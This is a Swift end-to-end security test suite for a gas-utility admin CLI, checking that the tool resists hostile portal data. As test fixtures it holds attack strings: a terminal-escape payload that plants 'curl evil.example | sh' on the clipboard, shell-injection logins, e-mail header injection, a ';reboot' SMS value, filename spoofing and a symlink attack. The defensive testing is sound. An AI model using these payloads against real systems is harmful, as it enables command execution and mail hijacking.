import Foundation
import Testing

/// What a hostile portal, RGK file or argv brings, in one place: the attacks of issue 14.
enum Hostile {
    /// OSC 52: sets the terminal's clipboard (here to "curl evil.example | sh").
    static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
    /// OSC 0: sets the window title.
    static let title = "\u{1B}]0;pwned\u{07}"
    /// CSI 2J: clears the screen.
    static let clearScreen = "\u{1B}[2J"
    /// RIGHT-TO-LEFT OVERRIDE: "Петров‮exe.txt" reads as "Петровtxt.exe".
    static let rightToLeft = "\u{202E}"
    /// A name that tries all of it, with a CR that would draw over the line and a CRLF that would split a row.
    static let name = "Иван\(clipboard)\(title)\(clearScreen)\u{9B}7m\rФАЛЬШИВАЯ СТРОКА\r\nПетров\(rightToLeft)exe.txt"
    /// Bytes that must never reach a terminal as they are: ESC ], BEL, U+202E, the C1 CSI (U+009B).
    static let forbidden: [[UInt8]] = [[0x1B, 0x5D], [0x07], Array("\u{202E}".utf8), [0xC2, 0x9B]]

    /// A portal login that is shell syntax once inserted unquoted: `id` writes to `marker`.
    static func shellLogin(_ marker: String) -> String { "zy;id>\(marker);#@m.ru" }
    /// Logins of every shape a shell could trip on.
    static let logins = ["zz$(touch pwned1)@m.ru", "zz`touch pwned2`@m.ru", "zz'quote@m.ru", "zz\"dq@m.ru",
                         "zz space@m.ru", "zz\nnewline@m.ru", "zz|pipe@m.ru", "--zz@m.ru"]

    /// An e-mail that carries a second header once written into a message.
    static let bccEmail = "a@b.ru\r\nBcc: evil@x.example"

    /// A value as SQL, whatever it holds: no quoting in the test's own SQL to get wrong.
    static func sql(_ text: String, engine: TestEngine = .default) -> String {
        let hex = text.utf8.map { String(format: "%02X", $0) }.joined()
        return switch engine {
        case .sqlite: "CAST(X'\(hex)' AS TEXT)"
        case .postgresql: "convert_from(decode('\(hex)', 'hex'), 'UTF8')"
        }
    }

    /// The occurrences in `bytes` of anything a terminal would act on, for a failure message.
    static func leaks(_ bytes: [UInt8]) -> [String] {
        forbidden.filter { needle in
            bytes.indices.contains { i in i + needle.count <= bytes.count && Array(bytes[i..<i + needle.count]) == needle }
        }.map { $0.map { String(format: "%02X", $0) }.joined(separator: " ") }
    }
}

extension E2E {
    /// The portal's writes, as a hostile customer makes them: a user, a PIN request and a ticket
    /// whose every text field carries `Hostile.name`.
    func hostilePortalRecords() {
        let name = Hostile.sql(Hostile.name, engine: engine)
        _ = sql("""
            INSERT INTO portal_user (login, login_kind, full_name, email, status, registered_at, updated_at, blocked_reason)
            VALUES ('evil@m.ru', 'email', \(name), 'evil@m.ru', 'blocked', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z', \(name));
            INSERT INTO pin_request (account_id, full_name, email, status, created_at)
            VALUES ((SELECT min(id) FROM account), \(name), 'evil@m.ru', 'open', '2000-01-01T10:00:00Z');
            INSERT INTO ticket (channel, topic, status, sender_name, sender_email, created_at, updated_at, last_customer_at)
            VALUES ('support', 'other', 'new', \(name), 'evil@m.ru', '2000-01-01T10:00:00Z', '2000-01-01T10:00:00Z', '2000-01-01T10:00:00Z');
            INSERT INTO ticket_message (ticket_id, at, author_kind, body)
            VALUES ((SELECT max(id) FROM ticket), '2000-01-01T10:00:00Z', 'customer', \(name));
            """)
    }
}

/// Issue 14: each row of its table of attacks, made exactly as the attacker made it.
@Suite struct HostileInputTests {
    // MARK: row 2 — customer text on the operator's terminal

    @Test func customerTextNeverReachesTheTerminalRaw() throws {
        let t = E2E()
        t.demo()
        t.hostilePortalRecords()
        let ticket = t.sql("SELECT id FROM ticket WHERE sender_email = 'evil@m.ru'")
        for args in [["ticket", "show", ticket], ["ticket", "list"], ["user", "list", "--status", "blocked"], ["user", "show", "evil@m.ru"],
                     ["pin", "requests"], ["--lang", "ru", "ticket", "show", ticket]] {
            let r = t.run(args)
            #expect(r.status == 0, "\(args): \(r)")
            let bytes = Array(r.stdout.utf8)
            #expect(Hostile.leaks(bytes).isEmpty, "\(args) let through \(Hostile.leaks(bytes))")
            #expect(!bytes.contains(0x0D), "\(args): a bare CR")
            #expect(r.stdout.contains("\\u001B]52;c;") && r.stdout.contains("\\u202E"), "\(args): shown, escaped:\n\(r.stdout)")
        }
        // a table row stays one row: the whole name on the line of its login
        let users = t.run("user", "list", "--status", "blocked")
        #expect(users.lines.filter { $0.contains("evil@m.ru") && $0.contains("Иван") && $0.contains("Петров") }.count == 1, "\(users.stdout)")
        #expect(!users.lines.contains { $0.hasPrefix("ФАЛЬШИВАЯ") || $0.hasPrefix("Петров") }, "\(users.stdout)")
        // machine formats keep the data exactly, in their own escaping
        let json = t.run("ticket", "show", ticket, "--json").jsonObject
        #expect(json["sender_name"] as? String == Hostile.name)
        let tsv = t.run("user", "list", "--status", "blocked", "--format", "tsv")
        #expect(tsv.lines.filter { $0.contains("evil@m.ru") && $0.contains("\\r\\nПетров") }.count == 1, "TSV escapes CR and LF: \(tsv.stdout)")
        #expect(tsv.stdout.contains(Hostile.clipboard), "TSV keeps the data as it is")
    }

    @Test func theReviewScreenShowsItEscaped() throws {
        let t = E2E()
        t.demo()
        t.hostilePortalRecords()
        let r = t.interactive(["ticket", "review"], [.expect("ticket 1/"), .expect("u001B]52"), .send("q")])
        #expect(r.ok && r.exit == 0, "\(r.description)")
        #expect(Hostile.leaks(r.raw).isEmpty, "the terminal received \(Hostile.leaks(r.raw))")
        let names = t.interactive(["pin", "requests"], [.sleep(0.5)])
        #expect(Hostile.leaks(names.raw).isEmpty && names.transcript.contains("Иван\\u001"), "\(names.description)")
    }

    // MARK: row 1 — completion never runs anything

    @Test func liveCompletionOffersOnlyValuesAShellCanTake() throws {
        let t = E2E()
        t.demo()
        let marker = t.dir + "/PWNED"
        for login in [Hostile.shellLogin(marker)] + Hostile.logins {
            _ = t.sql("INSERT INTO portal_user (login, login_kind, full_name, status, registered_at, updated_at) VALUES (\(Hostile.sql(login)), 'email', \(Hostile.sql(Hostile.name)), 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        }
        _ = t.sql("INSERT INTO portal_user (login, login_kind, full_name, status, registered_at, updated_at) VALUES ('zzsafe@m.ru', 'email', \(Hostile.sql(Hostile.name)), 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        let offered = t.run("__complete", "user", "z")
        #expect(offered.lines.map { String($0.split(separator: "\t")[0]) } == ["zzsafe@m.ru"], "\(offered.stdout)")
        #expect(Hostile.leaks(Array(offered.stdout.utf8)).isEmpty && offered.lines.count == 1, "descriptions are one plain line")
    }

    /// The exact attack: a login with `;id>FILE;#` and Tab, then Enter, in each real shell at a terminal.
    @Test(arguments: ["bash", "zsh", "fish"]) func tabThenEnterRunsNothing(_ name: String) throws {
        let program = try #require(shell(name), "\(name) is needed (.ci/run installs it)")
        let t = E2E()
        t.demo()
        let marker = t.dir + "/PWNED-\(name)"
        _ = t.sql("INSERT INTO portal_user (login, login_kind, status, registered_at, updated_at) VALUES (\(Hostile.sql(Hostile.shellLogin(marker))), 'email', 'active', '2026-07-19T10:00:00Z', '2026-07-19T10:00:00Z')")
        let load: String, argv: [String]
        switch name {
        case "bash":
            argv = [program, "--norc", "--noprofile", "-i"]
            load = ". '\(repositoryRoot)/completions/mygaz-admin.bash'"
        case "zsh":
            argv = [program, "-f", "-i"]
            load = "fpath=('\(repositoryRoot)/completions' $fpath); autoload -Uz compinit; compinit -u -d '\(t.dir)/zcd'"
        default:
            argv = [program, "--no-config", "-i"]
            load = "source '\(repositoryRoot)/completions/mygaz-admin.fish'"
        }
        let r = E2E.terminal(argv, [
            .sleep(1), .send(load + "\r"), .sleep(1),
            // the path as it is typed (no quotes: the scripts take a --db word as it stands)
            .send("mygaz-admin --db \(t.db) user show zy\t"), .sleep(2), .send("\r"), .sleep(2),
            .send("printf 'do%s\\n' ne-2\r"), .expect("done-2"), .send("exit\r"),
        ], env: completionEnvironment.merging(["HOME": t.dir, "PS1": "$ "]) { $1 }, cwd: t.dir)
        #expect(r.ok, "\(name): \(r.description)")
        #expect(!FileManager.default.fileExists(atPath: marker), "\(name) ran the login's command")
    }

    /// The second guard: even a value that should never come is inserted quoted by bash.
    @Test func bashQuotesEveryLiveValue() throws {
        let bash = try #require(shell("bash"))
        let t = E2E()
        let fakeDir = t.dir + "/bin"
        try FileManager.default.createDirectory(atPath: fakeDir, withIntermediateDirectories: true)
        let values = ["a;touch \(t.dir)/x1", "$(touch \(t.dir)/x2)", "`touch \(t.dir)/x3`", "it's", "two words"]
        let fake = "#!/bin/sh\nprintf '%s\\tdesc\\n' " + values.map { "'" + $0.replacingOccurrences(of: "'", with: "'\\''") + "'" }.joined(separator: " ") + "\n"
        try fake.write(toFile: fakeDir + "/mygaz-admin", atomically: true, encoding: .utf8)
        _ = E2E.sh("chmod +x '\(fakeDir)/mygaz-admin'")
        let script = """
            . '\(repositoryRoot)/completions/mygaz-admin.bash'
            COMP_WORDS=(mygaz-admin user show ''); COMP_CWORD=3
            _mygaz_admin mygaz-admin '' show
            for w in "${COMPREPLY[@]}"; do eval "printf '%s\\n' $w"; done
            """
        let r = E2E.exec(bash, ["--norc", "-c", script], env: ["PATH": fakeDir + ":/usr/bin:/bin"], cwd: t.dir)
        #expect(r.lines == values.filter { !$0.contains("\n") }, "each value comes back as itself: \(r)")
        for file in ["x1", "x2", "x3"] { #expect(!FileManager.default.fileExists(atPath: t.dir + "/" + file), "\(file) was created") }
    }

    // MARK: row 3 — a mail header from the portal's data

    @Test func aPINNeverGoesToAnAddressWithAHeaderInIt() throws {
        let t = E2E()
        t.demo()
        _ = t.sql("""
            INSERT INTO pin_request (account_id, full_name, email, status, created_at)
            VALUES ((SELECT min(id) FROM account), 'Иванов', \(Hostile.sql(Hostile.bccEmail)), 'open', '2026-07-19T10:00:00Z')
            """)
        let request = t.sql("SELECT max(id) FROM pin_request")
        let pins = t.sql("SELECT count(*) FROM pin")
        let r = t.run("pin", "issue", "--request", request, "--send")
        #expect(r.status == 6, "\(r)")
        #expect(r.stderr.contains("PIN request \(request)") && r.stderr.contains("a@b.ru\\r\\nBcc: evil@x.example"), "names the request and the address: \(r.stderr)")
        #expect(r.stderr.split(separator: "\n").count == 1)
        #expect(t.sql("SELECT count(*) FROM pin") == pins && t.sql("SELECT count(*) FROM outbox WHERE kind = 'pin'") == "0", "nothing issued, nothing queued")
    }

    @Test func anAnswerToABadAddressFailsThatMessageOnlyAndNoHeaderIsInjected() throws {
        let t = E2E()
        t.demo()
        // no mobile to fall back on: the e-mail is all the ticket has
        _ = t.sql("UPDATE ticket SET sender_email = \(Hostile.sql(Hostile.bccEmail)), sender_phone = NULL WHERE id = (SELECT min(id) FROM ticket WHERE status = 'new')")
        let ticket = t.sql("SELECT min(id) FROM ticket WHERE status = 'new'")
        let reply = t.run("ticket", "reply", ticket, "--message", "Ответ")
        #expect(reply.status == 0 && reply.stderr.contains("is not an e-mail address"), "the answer stands, the clerk learns: \(reply)")
        #expect(t.sql("SELECT status || '|' || CASE WHEN secret IS NULL THEN 1 ELSE 0 END || '|' || last_error FROM outbox WHERE entity_id = \(ticket) AND kind = 'ticket_reply'")
                .hasPrefix("failed|1|invalid recipient"))
        // written straight into the queue by anyone with the file: checked again when sent
        _ = t.sql("""
            INSERT INTO outbox (channel, recipient, subject, body, kind, status, next_attempt_at, created_at) VALUES
              ('email', \(Hostile.sql(Hostile.bccEmail)), 'S', 'B', 'other', 'waiting', '2000-01-01T00:00:00Z', '2000-01-01T00:00:00Z'),
              ('email', 'good@mail.ru', \(Hostile.sql("Тема\r\nBcc: evil@x.example\u{85}Cc: evil2@x.example\u{2028}X: y")), 'B', 'other', 'waiting', '2000-01-01T00:00:00Z', '2000-01-01T00:00:00Z'),
              ('sms', '+79001234567;reboot', NULL, 'B', 'other', 'waiting', '2000-01-01T00:00:00Z', '2000-01-01T00:00:00Z')
            """)
        let (sendmail, directory) = t.recordingSendmail()
        let sent = t.run(["outbox", "send", "--sendmail", sendmail, "--sms-command", "/bin/false", "--limit", "0", "--json"])
        #expect(sent.jsonObject["failed"] as? Int == 2, "\(sent)")
        let mail = t.parsedMail(directory)
        #expect(!mail.isEmpty && mail.allSatisfy { $0["Bcc"] == "None" && $0["Cc"] == "None" && !($0["headers"] ?? "").contains("X") }, "\(mail)")
        let good = try #require(mail.first { $0["To"] == "good@mail.ru" })
        #expect(good["Subject"]?.hasPrefix("Тема") == true && good["argv"] == "-i\n-t\n" && good["recipient"] == "good@mail.ru",
                "the recipient in To: and in the environment, not in argv: \(good)")
        // neither the program's arguments nor those of the shell that runs it (what `ps` shows) hold it
        #expect(mail.allSatisfy { m in
            let to = m["To"] ?? "?"
            return m["recipient"] == to && !(m["argv"] ?? to).contains(to) && !(m["parent"] ?? to).contains(to) && m["parent"]?.contains("sh") == true
        },
                "\(mail.map { [$0["To"], $0["recipient"], $0["argv"], $0["parent"]] })")
        #expect(t.sql("SELECT count(*) FROM outbox WHERE status = 'failed' AND last_error LIKE 'invalid recipient%'") == "3")
    }

    // MARK: row 4 — message bodies and the customer's conversation in temporary files

    @Test func temporaryFilesLiveInADirectoryOnlyTheOperatorMayEnter() throws {
        let t = E2E()
        t.demo()
        let tmp = t.dir + "/tmp"
        try FileManager.default.createDirectory(atPath: tmp, withIntermediateDirectories: true)
        _ = E2E.sh("chmod 1777 '\(tmp)'")
        // the program's stand-ins look at $TMPDIR while the message or the reply is in it
        let look = "find \"$TMPDIR\" -mindepth 1 -printf '%d %m %y %p\\n' >> '\(t.dir)/seen'"
        let sendmail = t.dir + "/sendmail"
        try "#!/bin/sh\ncat >/dev/null\n\(look)\n".write(toFile: sendmail, atomically: true, encoding: .utf8)
        let editor = t.dir + "/editor"
        try "#!/bin/sh\n\(look)\nprintf 'Ответ из редактора\\n' > \"$1\"\n".write(toFile: editor, atomically: true, encoding: .utf8)
        _ = E2E.sh("chmod +x '\(sendmail)' '\(editor)'")
        let ticket = t.sql("SELECT min(id) FROM ticket WHERE status = 'new' AND sender_email IS NOT NULL")
        let reply = t.interactive(["ticket", "reply", ticket], [.sleep(1)], env: ["EDITOR": editor, "TMPDIR": tmp])
        #expect(reply.exit == 0, "\(reply.description)")
        let sent = t.run(["outbox", "send", "--sendmail", sendmail], env: ["TMPDIR": tmp])
        #expect(sent.status == 0, "\(sent)")
        let seen = try String(contentsOfFile: t.dir + "/seen", encoding: .utf8).split(separator: "\n").map { $0.split(separator: " ") }
        #expect(seen.count >= 3, "\(seen)")
        for entry in seen {
            // depth 1: a private directory of ours; inside it, files for us alone
            if entry[0] == "1" { #expect(entry[2] == "d" && entry[1] == "700", "\(entry)") } else { #expect(entry[1] == "600", "\(entry)") }
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: tmp).isEmpty, "nothing left behind")
        // one left by a run that was killed (its PID gone) is removed by the next run; another's is not touched
        try FileManager.default.createDirectory(atPath: tmp + "/mygaz-cmd-999999999-abcdef", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: tmp + "/mygaz-cmd-1-abcdef", withIntermediateDirectories: true)
        _ = t.sql("UPDATE outbox SET status = 'waiting', next_attempt_at = '2000-01-01T00:00:00Z' WHERE id = (SELECT max(id) FROM outbox)")
        #expect(t.run(["outbox", "send", "--sendmail", sendmail], env: ["TMPDIR": tmp]).status == 0)
        #expect(try FileManager.default.contentsOfDirectory(atPath: tmp) == ["mygaz-cmd-1-abcdef"], "only the live process's is kept")
    }

    // MARK: row 5 and 13 — files written out: never through a link, never readable by others

    @Test func outputFilesAreNewPrivateAndNeverFollowALink() throws {
        let t = E2E()
        t.demo()
        _ = E2E.sh("chmod 600 '\(t.db)'")
        let victim = t.dir + "/victim.txt"
        try "the admin's own file\n".write(toFile: victim, atomically: true, encoding: .utf8)
        let target = t.dir + "/export.csv"
        // the attacker knows the name a run writes first: FILE.partial-PID (exec keeps the shell's PID)
        let planted = E2E.exec("/bin/sh", ["-c", "ln -s '\(victim)' '\(target)'.partial-$$ && exec '\(E2E.binary)' --db '\(t.db)' export readings --rgk vologda --output '\(target)'"],
                               env: ["LANG": "C.UTF-8"], cwd: t.dir)
        #expect(planted.status == 4 && planted.stderr.contains(".partial-"), "\(planted)")
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "the admin's own file\n", "nothing written through the link")
        #expect(!FileManager.default.fileExists(atPath: target))
        // a link at the target itself, an existing file, a directory: refused, untouched
        _ = E2E.sh("ln -s '\(victim)' '\(t.dir)/link.csv'; mkdir '\(t.dir)/dir.csv'")
        for existing in [t.dir + "/link.csv", victim, t.dir + "/dir.csv"] {
            let r = t.run("export", "readings", "--rgk", "vologda", "--output", existing)
            #expect(r.status == 4 && r.stderr.contains("already exists"), "\(existing): \(r)")
        }
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "the admin's own file\n")
        // under umask 022, every file written out is 0600 like the database
        let written = E2E.exec("/bin/sh", ["-c", "umask 022 && exec '\(E2E.binary)' --db '\(t.db)' export readings --rgk vologda --output '\(target)'"], cwd: t.dir)
        #expect(written.status == 0, "\(written)")
        let application = t.sql("SELECT application_id FROM attachment WHERE application_id IS NOT NULL LIMIT 1")
        let name = t.sql("SELECT name FROM attachment WHERE application_id = \(application) LIMIT 1")
        let attached = E2E.exec("/bin/sh", ["-c", "umask 022 && exec '\(E2E.binary)' --db '\(t.db)' application attachment \(application) '\(name)' --output '\(t.dir)/a.bin'"], cwd: t.dir)
        #expect(attached.status == 0, "\(attached)")
        let pins = t.dir + "/pins.csv"
        try "rgk;account;pin\nvologda;70000001;11112222\nvologda;99999999;33334444\n".write(toFile: pins, atomically: true, encoding: .utf8)
        let rejected = E2E.exec("/bin/sh", ["-c", "umask 022 && exec '\(E2E.binary)' --db '\(t.db)' import pins '\(pins)' --skip-invalid --rejects '\(t.dir)/rej.csv'"], cwd: t.dir)
        #expect(rejected.status == 5, "\(rejected)")
        for file in [target, t.dir + "/a.bin", t.dir + "/rej.csv"] {
            var info = stat()
            #expect(stat(file, &info) == 0 && info.st_mode & 0o777 == 0o600, "\(file): \(String(info.st_mode & 0o777, radix: 8))")
        }
        let rejects = try String(contentsOfFile: t.dir + "/rej.csv", encoding: .utf8)
        #expect(rejects.contains("99999999") && !rejects.contains("33334444"), "the PIN is masked: \(rejects)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: t.dir).allSatisfy { !$0.contains(".partial-") || $0.hasPrefix("export.csv.partial-") },
                "no stray partial files but the attacker's own link")
    }

    // MARK: row 6 — init --group never opens up a directory it did not make

    @Test func initWithAGroupLeavesAnExistingDirectoryAsItWas() throws {
        let t = E2E()
        for (mode, shouldRefuse) in [(0o755, true), (0o1777, true), (0o2770, false)] {
            let directory = t.dir + "/home-\(String(mode, radix: 8))"
            try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
            chmod(directory, mode_t(mode))
            let r = t.run(["--db", directory + "/mygaz.db", "init", "--group", "root"], useDB: false)
            var info = stat()
            stat(directory, &info)
            #expect(Int(info.st_mode & 0o7777) == mode, "\(directory) was changed: \(String(info.st_mode & 0o7777, radix: 8))")
            if shouldRefuse {
                #expect(r.status == 4 && r.stderr.contains("nothing was changed") && r.stderr.split(separator: "\n").count == 1, "\(r)")
                #expect(!FileManager.default.fileExists(atPath: directory + "/mygaz.db"))
            } else {
                #expect(r.status == 0, "a directory already fit for the group is used: \(r)")
            }
        }
        let made = t.run(["--db", t.dir + "/new/mygaz.db", "init", "--group", "root"], useDB: false)
        var info = stat()
        stat(t.dir + "/new", &info)
        #expect(made.status == 0 && info.st_mode & 0o7777 == 0o2770, "a directory it makes is the group's")
    }

    // MARK: row 7 — a secret lives until it is delivered, and never in a backup

    /// A PIN sent that failed for good (its secret erased), then another issued that waits.
    func failedAndWaitingPINs() -> (t: E2E, failing: String, waiting: String) {
        let t = E2E()
        t.demo()
        let requests = t.sql("SELECT id FROM pin_request WHERE status = 'open' AND email IS NOT NULL ORDER BY id LIMIT 2").split(separator: "\n").map(String.init)
        #expect(t.run("pin", "issue", "--request", requests[0], "--send", "--digits", "12").status == 0)
        let failing = t.sql("SELECT secret FROM outbox WHERE kind = 'pin'")
        #expect(failing.count == 12)
        _ = t.sql("UPDATE outbox SET attempts = 4 WHERE kind = 'pin'")
        let failed = t.run("outbox", "send", "--sendmail", "/bin/false")
        #expect(failed.status == 5, "\(failed)")
        #expect(t.sql("SELECT status || '|' || CASE WHEN secret IS NULL THEN 1 ELSE 0 END FROM outbox WHERE kind = 'pin'") == "failed|1")
        let retry = t.run("outbox", "retry", t.sql("SELECT id FROM outbox WHERE kind = 'pin'"))
        #expect(retry.status == 4 && retry.stderr.contains("issue a new one"), "a failed PIN is issued anew: \(retry)")
        #expect(t.run("pin", "issue", "--request", requests[1], "--send", "--digits", "12").status == 0)
        let waiting = t.sql("SELECT secret FROM outbox WHERE kind = 'pin' AND status = 'waiting'")
        #expect(waiting.count == 12)
        return (t, failing, waiting)
    }

    @Test func aPINThatFailedAndOneThatWaitsAreInNoFileAnyMore() throws {
        let (t, failing, waiting) = failedAndWaitingPINs()
        #expect(!t.stores(failing), "the erased PIN is overwritten in the database (the file and its WAL on SQLite, every row on PostgreSQL)")
        #expect(t.stores(waiting), "the waiting one is still there to be sent")
    }

    @Test(.sqliteOnly("db backup copies the SQLite file; a server's backups are pg_dump's")) func aBackupHoldsNoPIN() throws {
        let (t, failing, waiting) = failedAndWaitingPINs()
        let backup = t.dir + "/backup.db"
        #expect(t.run("db", "backup", backup).status == 0)
        let copy = try Data(contentsOf: URL(fileURLWithPath: backup))
        #expect(copy.range(of: Data(waiting.utf8)) == nil && copy.range(of: Data(failing.utf8)) == nil, "no secret in the backup")
        #expect(E2E.exec("/usr/bin/sqlite3", [backup, "SELECT status || '|' || CASE WHEN secret IS NULL THEN 1 ELSE 0 END FROM outbox WHERE kind = 'pin' ORDER BY id"]).stdout
                == "failed|1\nfailed|1\n", "the waiting PIN is failed in the copy: issued anew if it is ever restored")
    }

    // MARK: row 8 — a slow mailer: stopped whole, never sent twice

    @Test func aDeliveryThatTimesOutIsStoppedWithEverythingItStartedAndNotSentAgain() throws {
        let t = E2E()
        t.run("init")
        t.run("config", "set", "mail.from", "abon@gaz.example")
        _ = t.sql("INSERT INTO outbox (channel, recipient, subject, body, kind, status, next_attempt_at, created_at) VALUES ('email', 'x@mail.ru', 'S', 'B', 'other', 'waiting', '2000-01-01T00:00:00Z', '2000-01-01T00:00:00Z')")
        // like an MTA: hands the message to a child that delivers it a little later, then dawdles
        let slow = t.dir + "/slow-sendmail"
        try "#!/bin/sh\ncat > '\(t.dir)/queued'\n( sleep 2; mv '\(t.dir)/queued' '\(t.dir)/delivered' ) &\nsleep 30\n".write(toFile: slow, atomically: true, encoding: .utf8)
        _ = E2E.sh("chmod +x '\(slow)'")
        let started = Date()
        let r = t.run("outbox", "send", "--sendmail", slow, "--timeout", "1", "--json")
        #expect(Date().timeIntervalSince(started) < 10, "it did not wait for the mailer")
        #expect(r.jsonObject["in_doubt"] as? Int == 1 && r.status == 5, "\(r)")
        Thread.sleep(forTimeInterval: 3)
        #expect(!FileManager.default.fileExists(atPath: t.dir + "/delivered"), "the mailer's child was stopped too")
        let state = t.sql("SELECT status || '|' || last_error FROM outbox")
        #expect(state.hasPrefix("failed|timed out after 1 s") && state.contains("outbox retry"), "\(state)")
        let (sendmail, directory) = t.recordingSendmail()
        #expect(t.run("outbox", "send", "--sendmail", sendmail).status == 0)
        #expect(t.parsedMail(directory).isEmpty, "not sent again by itself")
        #expect(t.run("outbox", "retry", "1").status == 0)
        #expect(t.run("outbox", "send", "--sendmail", sendmail).status == 0)
        #expect(t.parsedMail(directory).count == 1, "sent when a person said so")
        #expect(t.sql("SELECT count(*) FROM audit WHERE action = 'outbox.in-doubt'") == "1")
    }

    // MARK: rows 9 and 10 — numbers and dates

    @Test func hugeDurationsAndOddDecimalsAreUsageErrors() throws {
        let t = E2E()
        t.demo()
        for args in [["audit", "list", "--since", "9223372036854775807d"], ["user", "list", "--registered-before", "999999999999999999h"],
                     ["user", "list", "--registered-before", "99999999999999999999999w"], ["audit", "list", "--until", "36601d"]] {
            let r = t.run(args)
            #expect(r.status == 2 && r.stderr.contains(args[3]) && r.stderr.contains("out of range"), "\(args): \(r)")
            #expect(r.stderr.split(separator: "\n").count == 1)
        }
        #expect(t.run("audit", "list", "--since", "36600d").status == 0, "a hundred years is still a duration")
        let account = t.sql("SELECT number FROM account LIMIT 1")
        let applications = t.sql("SELECT count(*) FROM application")
        for area in ["0", "inf", "1e400", "0x10", "-5", "nan", "1e3", "65,5,5", "", "１２"] {
            let r = t.run("application", "create", "--kind", "recalculation", "--account", account, "--phone", "89815676522",
                          "--recalc-reason", "heated_area", "--date-from", "01.07.2026", "--heated-area", area)
            #expect(r.status == 2 && r.stderr.contains("--heated-area") && r.stderr.split(separator: "\n").count == 1, "\(area): \(r)")
        }
        #expect(t.sql("SELECT count(*) FROM application") == applications, "nothing half-made")
        let good = t.run("application", "create", "--kind", "recalculation", "--account", account, "--phone", "89815676522",
                         "--recalc-reason", "heated_area", "--date-from", "01.07.2026", "--heated-area", "65,5", "--json")
        #expect(good.status == 0, "\(good)")
        #expect(t.sql("SELECT heated_area FROM application_recalculation ORDER BY application_id DESC LIMIT 1") == "65.5")
    }

    @Test func aDemoOutsideTheCenturyBeginsNothing() throws {
        let t = E2E()
        for date in ["0001-01-01", "9999-12-31", "31.12.1999"] {
            let r = t.run(["demo", "--accounts", "20", "--date", date])
            #expect(r.status == 2 && r.stderr.contains("--date"), "\(date): \(r)")
        }
        switch t.engine {
        case .sqlite: #expect(try FileManager.default.contentsOfDirectory(atPath: t.dir).isEmpty, "no database begun")
        case .postgresql: #expect(t.sql("SELECT count(*) FROM pg_tables WHERE schemaname = current_schema()") == "0", "no schema begun")
        }
    }

    @Test(.sqliteOnly("a file size limit stops the process that writes the SQLite file; on a server the server writes"))
    func aDemoTheDiskCannotHoldLeavesNothing() throws {
        let t = E2E()
        // a demo the disk cannot hold: refused whole, and the same command works once there is room
        let prlimit = try #require(["/usr/bin/prlimit", "/bin/prlimit"].first { FileManager.default.isExecutableFile(atPath: $0) })
        let full = E2E.exec(prlimit, ["--fsize=400000", E2E.binary, "--db", t.db, "demo", "--accounts", "300", "--date", "2026-07-20"], cwd: t.dir)
        #expect(full.status == 8, "\(full)")
        let left = try FileManager.default.contentsOfDirectory(atPath: t.dir)
        #expect(left.isEmpty, "nothing left: \(left)")
        let again = t.run(["demo", "--accounts", "300", "--date", "2026-07-20", "--json"])
        #expect(again.status == 0, "\(again)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: t.dir).filter { $0.contains("partial") }.isEmpty)
        #expect(t.run("db", "check").status == 0)
    }

    // MARK: rows 11 and 12 — databases that are not quite ours

    @Test func anotherProgramsDatabaseIsLeftByteForByteAsItWas() throws {
        let t = E2E()
        let foreign = t.dir + "/firefox-places.sqlite"
        #expect(E2E.exec("/usr/bin/sqlite3", [foreign, "CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT); INSERT INTO moz_places (url) VALUES ('https://example.org');"]).status == 0)
        let withID = t.dir + "/other-app.sqlite"
        #expect(E2E.exec("/usr/bin/sqlite3", [withID, "PRAGMA application_id = 12345; CREATE TABLE t (x);"]).status == 0)
        for file in [foreign, withID] {
            let before = try Data(contentsOf: URL(fileURLWithPath: file))
            for args in [["status"], ["init"], ["demo", "--accounts", "10"], ["db", "check"], ["user", "list"]] {
                let r = t.run(["--db", file] + args, useDB: false)
                #expect(r.status == 8 && r.stderr.contains("another program"), "\(args): \(r)")
            }
            #expect(try Data(contentsOf: URL(fileURLWithPath: file)) == before, "\(file) was changed")
            #expect(!FileManager.default.fileExists(atPath: file + "-wal") && !FileManager.default.fileExists(atPath: file + "-shm"), "no WAL begun beside \(file)")
        }
        let text = t.dir + "/notes.txt"
        try "not a database at all\n".write(toFile: text, atomically: true, encoding: .utf8)
        let r = t.run(["--db", text, "status"], useDB: false)
        #expect(r.status == 8 && r.stderr.contains("not a SQLite database"), "\(r)")
    }

    @Test func aSchemaChangedBehindOurBackIsNamedByDbCheckAndIsExit8Everywhere() throws {
        let t = E2E()
        t.demo()
        #expect(t.run("db", "check").status == 0, "the demo is what the schema says")
        _ = t.sql("ALTER TABLE ticket RENAME COLUMN sender_name TO sender_full_name")
        let check = t.run("db", "check")
        #expect(check.status == 8 && check.stderr.contains("table ticket: column sender_name is missing")
                && check.stderr.contains("unknown column sender_full_name"), "\(check)")
        let list = t.run("ticket", "list")
        #expect(list.status == 8 && list.stderr.contains("db check") && list.stderr.contains("sender_name"), "\(list)")
        #expect(list.stderr.split(separator: "\n").count == 1)
        _ = t.sql("ALTER TABLE ticket RENAME COLUMN sender_full_name TO sender_name")
        #expect(t.run("db", "check").status == 0)
        // a trigger that swallows the audit trail
        _ = t.sql(t.engine == .sqlite ? "CREATE TRIGGER quiet AFTER INSERT ON audit BEGIN DELETE FROM audit WHERE id = NEW.id; END" : """
            CREATE FUNCTION quiet() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit WHERE id = NEW.id; RETURN NULL; END $$;
            CREATE TRIGGER quiet AFTER INSERT ON audit FOR EACH ROW EXECUTE FUNCTION quiet()
            """)
        let swallowed = t.run("db", "check", "--json")
        #expect(swallowed.status == 8, "\(swallowed)")
        #expect((swallowed.jsonObject["problems"] as? [String])?.contains { $0.hasPrefix("unknown trigger quiet on audit") } == true, "\(swallowed)")
        _ = t.sql(t.engine == .sqlite ? "DROP TRIGGER quiet; DROP INDEX reading_queue" : "DROP TRIGGER quiet ON audit; DROP FUNCTION quiet(); DROP INDEX reading_queue")
        #expect(t.run("db", "check").stderr.contains("index reading_queue is missing"))
    }

